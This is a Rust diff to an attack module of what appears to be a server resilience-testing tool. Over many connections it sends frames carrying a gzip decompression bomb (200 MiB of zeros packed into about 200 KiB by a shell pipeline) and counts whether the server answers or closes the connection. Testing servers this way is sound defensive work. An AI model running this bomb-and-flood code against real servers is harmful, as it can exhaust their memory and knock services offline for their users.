@@ -26,11 +26,12 @@ pub(super) async fn run(attack: &Attack) -> Result<Tally> {
         let mut lines = JoinSet::new();
         for _ in 0..CONNECTIONS {
             let Ok(line) = attack.begin(&[]).await else { continue };
-            let bytes: Vec<u8> = (0..CALLS.min(attack.count)).flat_map(|n| one(n, &bomb)).collect();
-            sent += CALLS.min(attack.count);
+            let calls = CALLS.min(attack.count);
+            let bytes: Vec<u8> = (0..calls).flat_map(|n| one(n, &bomb)).collect();
+            sent += calls;
             lines.spawn(async move {
-                let (heard, closed) = write_and_listen(line, &bytes, Instant::now() + LISTEN).await;
-                let answered = heard.frames.get(&HEADERS).copied().unwrap_or_default();
+                let (heard, closed) = write_and_listen(line, &bytes, calls, Instant::now() + LISTEN).await;
+                let answered = heard.answers();
                 vec![("answered", answered), ("closed by the server", usize::from(closed))]
             });
         }
@@ -45,7 +46,7 @@ pub(super) async fn run(attack: &Attack) -> Result<Tally> {
 
 /// 200 MiB of nothing in some 200 KiB.
 async fn bomb() -> Result<Vec<u8>> {
-    let packed = Command::new("sh").args(["-c", "head -c 209715200 /dev/zero | gzip -9"]).output().await?;
+    let packed = Command::new("sh").args(["-c", "head -c 209715200 /dev/zero | gzip -6"]).output().await?;
     ensure!(packed.status.success() && packed.stdout.len() > 100_000, "gzip makes no bomb");
     Ok(packed.stdout)
 }
